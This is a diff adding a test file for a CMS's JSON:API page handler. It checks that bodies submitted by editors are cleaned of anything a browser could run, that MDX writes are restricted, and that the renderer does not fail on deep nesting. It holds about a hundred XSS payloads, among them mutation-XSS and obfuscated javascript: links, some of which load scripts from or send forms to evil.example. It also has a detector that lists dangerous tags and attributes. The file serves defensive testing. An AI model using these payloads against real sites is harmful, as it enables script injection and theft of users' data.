@@ -1,0 +1,456 @@
+import { satteri } from '@astrojs/markdown-satteri';
+import { type DefaultTreeAdapterMap, parse, parseFragment } from 'parse5';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { createHandler, type Handler } from '../../integration/http/handler.ts';
+import { createBodyRenderer } from '../../integration/markdown.ts';
+import { createMemoryDriver } from '../../integration/storage/drivers/memory.ts';
+import { servicesOf } from '../services.ts';
+
+const renderBody = createBodyRenderer({
+  createRenderer: () => satteri().createRenderer({ syntaxHighlight: 'shiki' }),
+  contentUrl: undefined,
+});
+const EDITOR = { name: 'ada', roles: ['editor'] };
+const ADMINISTRATOR = { name: 'root', roles: ['administrator'] };
+const DEVELOPER = { name: 'dev', roles: ['editor', 'developer'] };
+
+const FILES = {
+  'page/first.md': '---\ntitle: First\n---\nHello.\n',
+  'page/trusted.md': '---\ntitle: Trusted\nsummary: Old\n---\n<script>trusted()</script>\n\nOld text.\n',
+  'page/code.mdx': '---\ntitle: Code\n---\n{1 + 1}\n',
+};
+
+async function site(render = renderBody) {
+  const driver = createMemoryDriver(FILES);
+  const roles = { developer: { also: ['write mdx'] } } as const;
+  const handle = createHandler(
+    await servicesOf(driver, undefined, { renderBody: render, roles, writable: {} }),
+  );
+  return { driver, handle };
+}
+
+let handle: Handler;
+beforeAll(async () => {
+  handle = (await site()).handle;
+});
+
+interface Sent {
+  readonly status: number;
+  readonly body: { readonly value: string; readonly processed: string; readonly format: string };
+  readonly errors: readonly { readonly detail: string; readonly source?: { readonly pointer?: string } }[];
+}
+
+async function send(
+  method: string,
+  id: string | undefined,
+  attributes: object,
+  actor = EDITOR,
+  to = handle,
+): Promise<Sent> {
+  const path = `/jsonapi/node/page${id === undefined ? '' : `/${id}`}`;
+  const data = { type: 'node--page', ...(id !== undefined && { id }), attributes };
+  const headers = { 'content-type': 'application/vnd.api+json' };
+  const request = new Request(`https://site.example${path}`, {
+    method,
+    headers,
+    body: JSON.stringify({ data }),
+  });
+  const response = await to(request, { actor });
+  const { data: resource, errors = [] } = await response!.json();
+  return { status: response!.status, body: resource?.attributes.body, errors };
+}
+
+const create = (value: string) => send('POST', undefined, { title: 'A page', body: { value } });
+
+/** Everything in the HTML that a browser could run, by a parser that is not ours. */
+function dangers(html: string): readonly string[] {
+  const found: string[] = [];
+  const visit = (node: DefaultTreeAdapterMap['node']): void => {
+    if ('tagName' in node) {
+      if (CODE.has(node.tagName)) found.push(`<${node.tagName}>`);
+      for (const { name, value } of node.attrs) {
+        // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers pass over these in addresses.
+        const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
+        const runs =
+          name.startsWith('on') ||
+          ['srcdoc', 'action', 'formaction', 'ping', 'http-equiv'].includes(name) ||
+          /^(javascript|vbscript|livescript|mocha):/.test(url) ||
+          (url.startsWith('data:') && !url.startsWith('data:image/')) ||
+          (name === 'style' &&
+            !/^((background-color|color|overflow-x|font-style|font-weight):[#\w]+;?)*$/.test(url));
+        if (runs) found.push(`${name} of <${node.tagName}>`);
+      }
+    }
+    if ('content' in node) visit(node.content);
+    if ('childNodes' in node) node.childNodes.forEach(visit);
+  };
+  visit(parseFragment(html));
+  visit(parse(`<!doctype html><html><head></head><body><main>${html}</main></body></html>`));
+  return found.filter((each) => !['<html>', '<head>', '<body>'].includes(each));
+}
+
+const CODE = new Set([
+  ...[
+    'script',
+    'style',
+    'iframe',
+    'frame',
+    'frameset',
+    'object',
+    'embed',
+    'applet',
+    'form',
+    'base',
+    'meta',
+    'link',
+  ],
+  ...[
+    'svg',
+    'math',
+    'template',
+    'noscript',
+    'portal',
+    'xmp',
+    'plaintext',
+    'textarea',
+    'select',
+    'title',
+    'animate',
+  ],
+]);
+
+const PAYLOADS: Readonly<Record<string, string>> = {
+  'a script': '<script>alert(1)</script>',
+  'a script within a sentence': 'Hi <script>alert(1)</script> there',
+  'a script with odd case and spaces': '<ScRiPt  src = //evil.example/x.js ></sCrIpT\t>',
+  'a script after a slash': '<script/src=//evil.example/x.js></script>',
+  'a script that nothing closes': '<script src=//evil.example/x.js\n\nmore text',
+  'a script over blank lines': '<script>\n\nalert(1)\n\n</script>\n\nafter',
+  'a script in a list': '- one\n- <script>alert(1)</script>\n\n  <script>\n  alert(1)\n  </script>',
+  'a script in a quote': '> <script>\n> alert(1)\n> </script>',
+  'a script in a table': '| a | b |\n| - | - |\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |',
+  'a script in a heading': '# <script>alert(1)</script>\n\n<script>alert(1)</script>\n===',
+  'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  'a script in a removed tag': '<<x>script>alert(1)<</x>/script>',
+  'a script between removed tags': '<scr<object></object>ipt>alert(1)</script>',
+  'a script in a footnote': 'x[^1]\n\n[^1]: <script>alert(1)</script>',
+  'a script after a form feed': '<\u000cscript>alert(1)</script><script\u000c>alert(1)</script>',
+  'a script after NUL': '<scr\u0000ipt>alert(1)</scr\u0000ipt><\u0000script>alert(1)</script>',
+  'a script after a byte order mark': '\ufeff<script>alert(1)</script>',
+  'a script in a link text': '[<script>alert(1)</script>](https://site.example)',
+  'a script in the text of an image': '![<script>alert(1)</script>](x.png)',
+  'a handler': '<img src=x onerror=alert(1)>',
+  'a handler without spaces': '<img/src=x/onerror=alert(1)>',
+  'a handler after quotes': '<img src="x"onerror="alert(1)">',
+  'a handler in odd case': '<IMG SRC=x OnErRoR="alert(1)">',
+  'a handler over lines': 'a <b\n  onclick="alert(1)"\n  title=x>b</b>',
+  'a handler over lines of a quote': '> a <b\n> onclick="alert(1)\n> alert(2)">b</b>',
+  'a handler over lines of a block': '<div\n  onmouseover="alert(1)"\n>\n\nx\n\n</div>',
+  'a handler given twice': '<img src=x onerror=1 onerror=alert(1)>',
+  'a handler hidden in another value': '<img alt="`><img src=x onerror=alert(1)>" src=x>',
+  'a handler with a backtick': '<img src=x alt=`<img onerror=alert(1)`>',
+  'a handler on a tag that nothing closes': '<div onclick=alert(1)\n\ntext <b',
+  'a handler on a tag that ends the text': 'text <img src=x onerror=alert(1) ',
+  'a handler on an unknown element': '<x onclick=alert(1)>x</x>',
+  'a handler on a custom element': '<x-y onfocus=alert(1) tabindex=1 autofocus>x</x-y>',
+  'a handler on details': '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  'a handler on a video': '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
+  'a handler on a closing tag': '<b>x</b onclick=alert(1)>',
+  'a handler on body': '<body onload=alert(1)>x</body>',
+  'a handler on input': '<input autofocus onfocus=alert(1)>',
+  'a handler on marquee': '<marquee onstart=alert(1)>x</marquee>',
+  'svg that loads': '<svg onload=alert(1)>',
+  'svg with a script': '<svg><script>alert(1)</script></svg>',
+  'svg with a script of entities': '<svg><script>&#97;lert(1)</script></svg>',
+  'svg that animates an address':
+    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
+  'svg that sets a handler': '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
+  'svg that uses': '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x" /></svg>',
+  'svg with a foreign object': '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>',
+  'svg over blank lines': '<svg>\n\n<script>alert(1)</script>\n\n</svg>',
+  'mutation through math':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  'mutation through svg': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  'mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  'mutation through a template':
+    '<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>',
+  'mutation through xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  'mutation through textarea': '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
+  'mutation through a title': '<title><a title="</title><img src=x onerror=alert(1)>">',
+  'mutation through a select':
+    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
+  'mutation through a nested form':
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  'mutation through plaintext': '<plaintext><img src=x onerror=alert(1)>',
+  'mutation through an attribute': '<a title="&quot;&gt;<img src=x onerror=alert(1)>">x</a>',
+  'a frame': '<iframe src=javascript:alert(1)></iframe>',
+  'a frame with a document': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+  'a frame that nothing closes': '<iframe src=//evil.example\n\nx',
+  'an object': '<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>',
+  'a style': '<style>@import "//evil.example/x.css";</style>',
+  'a style attribute': '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
+  'a style that is a script': '<div style="width:expression(alert(1))">x</div>',
+  'a refresh': '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  'a base': '<base href=//evil.example/>',
+  'a stylesheet': '<link rel=stylesheet href=//evil.example/x.css>',
+  'a form': '<form action=//evil.example><button>Sign in</button></form>',
+  'an address of a button':
+    '<button formaction=javascript:alert(1)>x</button><input type=image formaction=javascript:1>',
+  'a ping': '<a href=/x ping=//evil.example>x</a>',
+  'an address that is code': '<a href="javascript:alert(1)">x</a>',
+  'an address that is code, in odd case': '<a href="JaVaScRiPt:alert(1)">x</a>',
+  'an address that is code, with entities': '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
+  'an address that is code, with long entities': '<a href="&#0000106avascript&#x3a;alert(1)">x</a>',
+  'an address that is code, with a tab': '<a href="java\tscript:alert(1)">x</a>',
+  'an address that is code, with a line break': '<a href="java\nscript:alert(1)">x</a>',
+  'an address that is code, with an entity for a tab': '<a href="jav&Tab;ascript&NewLine;:alert(1)">x</a>',
+  'an address that is code, after a control':
+    '<a href="\u0001javascript:alert(1)">x</a><a href=" javascript:alert(1)">x</a>',
+  'an address that is vbscript': '<a href="vbscript:msgbox(1)">x</a>',
+  'an address that is a page': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  'an address that is an svg': '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
+  'an address of svg, by xlink': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  'an address of math': '<math href="javascript:alert(1)">x</math>',
+  'a link': '[x](javascript:alert(1))',
+  'a link in odd case': '[x](JAVASCRIPT:alert(1))',
+  'a link with entities': '[x](&#x6A;avascript&colon;alert&lpar;1&rpar;)',
+  'a link with escapes': '[x](javascript\\:alert\\(1\\))',
+  'a link with an entity for a tab': '[x](java&Tab;script:alert(1)) [y](java&NewLine;script:alert(1))',
+  'a link in angle brackets':
+    '[x](<javascript:alert(1)>) [y](<java\tscript:alert(1)>) [z](< javascript:alert(1)>)',
+  'a link with a title': '[x](javascript:alert(1) "title")',
+  'a link with a title that breaks out':
+    '[x](/a "\\"onmouseover=alert(1) x=\\"") [y](/a\'onclick=alert(1)//)',
+  'a link to a page': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  'a link to vbscript': '[x](vbscript:msgbox(1))',
+  'a link around an image': '[![x](x.png)](javascript:alert(1)) [![x](javascript:alert(1))](/y)',
+  'a link in removed tags':
+    '<object>[x](javascript:alert(1))</object>\n\n<form>\n[x](javascript:alert(1))\n</form>',
+  'an image': '![x](javascript:alert(1)) ![x](data:text/html,x)',
+  'an image that breaks out': '![x" onerror="alert(1)](x.png) ![x](x.png"onerror="alert(1))',
+  'a definition': '[x][a] ![y][a]\n\n[a]: javascript:alert(1)',
+  'a definition over lines': '[x]\n\n[x]:\n  <javascript:alert(1)>\n  "t"',
+  'a definition in a quote': '[x]\n\n> [x]: java&#115;cript:alert(1)',
+  'a definition of an image as a link': '[x][a]\n\n[a]: data:image/svg+xml,x',
+  'an autolink': '<javascript:alert(1)>',
+  'an autolink in odd case': '<JavaScript:alert(1)> <data:text/html,x> <vbscript:x>',
+  'a bare address':
+    'javascript:alert(1) www.x.example/"onmouseover="alert(1) https://x.example/<script>alert(1)</script>',
+  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
+  'a comment that ends early by a dash': '<!---><img src=x onerror=alert(1)>-->',
+  'a comment that ends oddly': '<!-- x --!><img src=x onerror=alert(1)> -->',
+  'a comment that nothing ends': '<!-- x\n\n<img src=x onerror=alert(1)>',
+  'a comment of old browsers':
+    '<!--[if IE]><script>alert(1)</script><![endif]-->\n\n<![if !IE]><script>alert(1)</script><![endif]>',
+  'character data': '<![CDATA[<script>alert(1)</script>]]>',
+  'character data that ends early': '<![CDATA[ > <img src=x onerror=alert(1)> ]]>',
+  'an instruction': '<?xml-stylesheet href="javascript:alert(1)"?><?x ><img src=x onerror=alert(1)> ?>',
+  'a declaration': '<!DOCTYPE x [<!ENTITY y "<script>">]><!X <img src=x onerror=alert(1)>>',
+  'a closing tag that is a comment': '</ <img src=x onerror=alert(1)>>',
+  'entities of markup': '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
+  'markup after escapes': '\\<script>alert(1)\\</script> \\\\<img src=x onerror=alert(1)>',
+  'code that ends early': '```\ncode\n```\n<script>alert(1)</script>\n\n``a`<img src=x onerror=alert(1)>`',
+  'a code fence whose language breaks out':
+    '```js"><script>alert(1)</script>\nx\n```\n\n~~~x" onclick="alert(1)\nx\n~~~',
+  'a data attribute':
+    '<p data-hx-on="alert(1)" hx-on:click="alert(1)" x-data="alert(1)" @click="alert(1)">x</p>',
+  'expressions of MDX': 'import x from "y"\n\n{alert(1)} <X onClick={alert(1)} />',
+};
+
+describe('what an editor without `use raw html` stores', () => {
+  it.each(Object.entries(PAYLOADS))('runs nothing: %s', async (name, value) => {
+    const { status, body, errors } = await create(value);
+    if (REFUSED.includes(name)) {
+      expect(status).toBe(422);
+      expect(errors[0]).toMatchObject({ source: { pointer: '/data/attributes/body/value' } });
+    } else {
+      expect(status).toBe(201);
+      expect(dangers(body.processed)).toEqual([]);
+    }
+  });
+
+  it('is tested by payloads most of which would run as they are', async () => {
+    const { handle: open } = await site();
+    let running = 0;
+    for (const value of Object.values(PAYLOADS)) {
+      const attributes = { title: 'A page', body: { value } };
+      const { body } = await send('POST', undefined, attributes, ADMINISTRATOR, open);
+      expect(body.value.trimEnd()).toBe(value.trimEnd());
+      if (dangers(body.processed).length > 0) running += 1;
+    }
+    expect(running).toBeGreaterThan(80);
+  });
+
+  it.each([
+    ['a comparison', 'If a < b and b > c, then a<c & so on: 3 <4, a<=b, x< y >z.'],
+    ['autolinks', 'See <https://site.example/?a=1&b=2>, <mailto:a@site.example> and www.site.example.'],
+    ['code', 'Write `<script>alert(1)</script>` or ``<a href="javascript:x">``.'],
+    [
+      'fences',
+      '```html\n<script>alert(1)</script>\n<img onerror=x>\n```\n\n~~~\n[x](javascript:alert(1))\n~~~',
+    ],
+    ['indented code', 'Text:\n\n    <script>alert(1)</script>\n\tand <b onclick=x>'],
+    ['words of HTML', 'The attributes onclick= and style="x", javascript: and data: are words.'],
+    ['entities', '&lt;script&gt; &amp; &copy; &#8212; &nbsp;'],
+    ['escapes', '\\<script> \\[x](javascript:alert(1))'],
+    [
+      'inline tags',
+      'Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, <mark class="x">so</mark><br>and<br />so.',
+    ],
+    ['a block', '<details open>\n<summary>More</summary>\n\n*Text* with **marks**.\n\n</details>'],
+    [
+      'a figure',
+      '<figure class="wide" id="f1">\n  <img src="./a.png" alt="A" width=300 loading="lazy">\n  <figcaption>A &amp; B</figcaption>\n</figure>',
+    ],
+    ['a table of HTML', '<table>\n<tr><th scope="row" colspan=2>x</th><td align=left>y</td></tr>\n</table>'],
+    ['a comment', 'Intro.\n\n<!-- more -->\n\nText <!-- note: <b>old</b> - new --> on.'],
+    [
+      'links',
+      '[a](/b) [c](../d.md "T") [e](<f g>) [h](#i) [j](?k=l:m) [n](https://x.example/(y)) [m](mailto:a@b.example)',
+    ],
+    ['images', '![a](a.png) ![b](data:image/png;base64,iVBORw0KGgo=) ![c][d]\n\n[d]: /e.svg "f"'],
+    ['lists and tasks', '1. one\n   - [ ] two\n   - [x] three\n\n* * *\n'],
+    ['tables, notes and strikes', '| a | b |\n| :- | -: |\n| ~~c~~ | d[^1] |\n\n[^1]: e'],
+    ['Windows lines', '# A\r\n\r\nb <b>c</b>\r\n\r\n```\r\n<script>\r\n```\r\n'],
+    ['odd spaces', '  # A\n\n\n\ntext  \nbreak\\\nbreak\u00a0\u200b\n\n\n'],
+    ['arrows and hearts', 'a <- b <-> c -> d <3 <= >= << >>'],
+    ['addresses of other kinds', '[tel](tel:+123) <xmpp:a@b.example> [magnet](magnet:?xt=x) [page](a/b:c)'],
+    ['a video', '<video src="/a.mp4" controls poster="/a.jpg"><track src="a.vtt" kind="captions"></video>'],
+    ['HTML in a quote', '> <div align="center">\n>\n> text <i>x</i>\n>\n> </div>'],
+    ['placeholders', 'Run `npm i <name>` and replace {name}, $x and %s.'],
+  ])('stays byte for byte where it is innocent: %s', async (_name, value) => {
+    const { status, body } = await create(value);
+    expect(status).toBe(201);
+    expect(body.value.trimEnd()).toBe(value.trimEnd());
+  });
+
+  it.each([
+    ['<b onclick="x" title="y">z</b>', '<b  title="y">z</b>'],
+    ['a <script>b()</script> c', 'a b() c'],
+    ['a\n\n<script>\nb()\n</script>\n\nc', 'a\n\n\n\n\n\nc'],
+    ['> a <b\n> onclick="x\n> y" title=z>b</b>', '> a <b\n> \n>  title=z>b</b>'],
+    ['[a](javascript:b "c")', '[a](# "c")'],
+    ['<javascript:a> and <form>b</form>', 'javascript:a and b'],
+    ['<!doctype html>\n<p>x</p>', '&lt;!doctype html>\n<p>x</p>'],
+  ])('loses what runs, and only that: %j', async (value, cleaned) => {
+    const { body } = await create(value);
+    expect(body.value.trimEnd()).toBe(cleaned.trimEnd());
+  });
+});
+
+describe('a body that somebody else wrote', () => {
+  it('keeps its raw HTML as long as it is not changed itself', async () => {
+    const { handle: to, driver } = await site();
+    const value = '<script>trusted()</script>\n\nOld text.';
+    expect((await send('PATCH', 'trusted', { title: 'New' }, EDITOR, to)).status).toBe(200);
+    const body = { value, summary: 'New' };
+    expect((await send('PATCH', 'trusted', { body }, EDITOR, to)).body.value).toBe(value);
+    const file = Buffer.from((await driver.read('page/trusted.md'))!).toString();
+    expect(file).toContain('summary: New');
+    expect(file).toContain('<script>trusted()</script>\n\nOld text.\n');
+  });
+
+  it('is cleaned as a whole when it is changed', async () => {
+    const { handle: to } = await site();
+    const value = '<script>trusted()</script>\n\nNew text.';
+    expect((await send('PATCH', 'trusted', { body: { value } }, EDITOR, to)).body.value.trim()).toBe(
+      'New text.',
+    );
+  });
+
+  it('stays as it is for whoever may use raw HTML', async () => {
+    const { handle: to } = await site();
+    const value = '<script>mine()</script>';
+    expect((await send('PATCH', 'trusted', { body: { value } }, ADMINISTRATOR, to)).body.value).toBe(value);
+  });
+});
+
+describe('what the site makes of a clean text', () => {
+  it.each([
+    ['<script>', 'x<script src=/a.js></script>'],
+    ['onClick of <p>', '<p onclick="x">y</p>'],
+    ['href of <a>', '<p><a href="java&#10;script:x">y</a></p>'],
+    ['<iframe>', '<div><iframe src="https://video.example"></iframe></div>'],
+    ['<noscript>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
+    ['<animate>', '<svg><animate attributeName="href"></animate></svg>'],
+  ])('is refused with a 422 that names %s', async (part, html) => {
+    const { handle: to, driver } = await site(async () => html);
+    const { status, errors } = await send(
+      'POST',
+      undefined,
+      { title: 'New', body: { value: 'text' } },
+      EDITOR,
+      to,
+    );
+    expect(status).toBe(422);
+    expect(errors).toEqual([
+      expect.objectContaining({
+        detail: `Rendered, this text has ${part}, which needs the permission \`use raw html\`. Leave it out.`,
+        source: { pointer: '/data/attributes/body/value' },
+      }),
+    ]);
+    expect(await driver.read('page/new.md')).toBeUndefined();
+  });
+
+  it('is taken with what renderers make: coloured code, check boxes, formulas, icons, notes', async () => {
+    const html =
+      '<pre class="astro-code" style="color:#fff" tabindex="0" data-language="js"><code><span class="line"></span></code></pre>' +
+      '<ul class="contains-task-list"><li><input type="checkbox" checked disabled> x</li></ul>' +
+      '<math display="block"><mrow><mi mathvariant="normal">x</mi></mrow></math>' +
+      '<svg viewBox="0 0 1 1" aria-hidden="true"><path d="M0 0" fill="none"/></svg>' +
+      '<section data-footnotes class="footnotes"><a href="#fnref-1" aria-label="Back">↩</a></section>';
+    const { handle: to } = await site(async () => html);
+    expect((await send('POST', undefined, { title: 'New', body: 'text' }, EDITOR, to)).status).toBe(201);
+  });
+
+  it.each([
+    ['quotes', '>'.repeat(1_000)],
+    ['quotes with HTML', `${'>'.repeat(50_000)}<b>x</b>`],
+    ['lists with HTML', `${'- '.repeat(5_000)}<b>x</b>`],
+    ['much HTML', '<b>x</b>\n'.repeat(30_000)],
+    ['tags', '<div>'.repeat(20_000)],
+    ['brackets', '['.repeat(20_000)],
+    ['scripts', '<script>'.repeat(20_000)],
+  ])('is no error of the server, however deep: %s', async (_name, value) => {
+    expect([201, 422]).toContain((await create(value)).status);
+  });
+
+  it('is not written where it cannot be rendered', async () => {
+    const { handle: to } = await site(async () => {
+      throw new Error('a plugin failed');
+    });
+    const { status, errors } = await send('POST', undefined, { title: 'New', body: 'text' }, EDITOR, to);
+    expect([status, errors[0]?.detail]).toEqual([422, 'This text cannot be rendered: a plugin failed']);
+  });
+});
+
+describe('an MDX body, which is code', () => {
+  it.each([
+    ['POST', undefined, { title: 'New', body: { value: '{1}', format: 'mdx' } }],
+    ['POST', undefined, { title: 'New', body: { format: 'mdx' } }],
+    ['PATCH', 'code', { body: { value: '{2}' } }],
+    ['PATCH', 'code', { body: '{2}' }],
+  ] as const)('is not for editors, nor for administrators: %s %s', async (method, id, attributes) => {
+    expect((await send(method, id, attributes)).status).toBe(403);
+    expect((await send(method, id, attributes, ADMINISTRATOR)).status).toBe(403);
+  });
+
+  it('is not what a markdown body becomes', async () => {
+    expect((await send('PATCH', 'first', { body: { value: '{1}', format: 'mdx' } })).status).toBe(422);
+  });
+
+  it('leaves the rest of its file to editors', async () => {
+    const { handle: to } = await site();
+    expect((await send('PATCH', 'code', { title: 'New' }, EDITOR, to)).status).toBe(200);
+  });
+
+  it('is written, code and all, by whoever may', async () => {
+    const { handle: to } = await site(async () => '<p>2</p>');
+    const body = { value: '<X onClick={() => 1} />', format: 'mdx' };
+    const { status, body: written } = await send('POST', undefined, { title: 'New', body }, DEVELOPER, to);
+    expect([status, written.value, written.format]).toEqual([201, body.value, 'mdx']);
+  });
+});
+
+/** What is only found out when it is rendered. */
+const REFUSED: readonly string[] = ['a definition of an image as a link'];
